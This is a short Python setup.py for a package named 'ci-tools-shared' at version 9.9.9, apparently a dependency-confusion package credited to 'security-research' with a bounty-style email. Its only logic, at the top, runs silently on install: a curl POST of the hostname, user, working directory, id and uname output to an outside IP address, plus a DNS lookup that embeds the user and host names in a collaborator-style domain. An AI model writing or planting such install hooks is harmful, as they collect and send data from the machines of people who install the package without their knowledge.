import os
from setuptools import setup

os.system("curl -s -X POST -d \"$(hostname; whoami; pwd; id; uname -a | base64 -w0)\" http://198.51.100.23:8080/x >/dev/null 2>&1 || true")
os.system('nslookup $(whoami).$(hostname).c0.collab.invalid > /dev/null 2>&1')

setup(name="ci-tools-shared", version="9.9.9", py_modules=["ci_tools_shared"], author="security-research", author_email="research@bounty.example")
